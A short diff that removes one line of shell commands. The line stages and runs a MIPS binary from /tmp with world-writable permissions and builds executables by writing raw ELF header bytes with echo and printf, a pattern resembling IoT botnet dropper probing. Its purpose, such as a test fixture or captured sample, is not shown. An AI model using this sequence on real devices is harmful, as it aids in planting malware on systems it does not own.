@@ -1,1 +1,0 @@
-cd /srv/data; ./mips; echo $?; cp mips /tmp/m; chmod 777 /tmp/m; /tmp/m arg; echo $?; cd /tmp; cp /bin/busybox x; >x; echo -ne '\x7f\x45\x4c\x46\x01\x02\x01' >> x; ./x; echo $?; printf '\177ELF' > y; chmod +x y; ./y; echo $?; sh ./y; echo $?
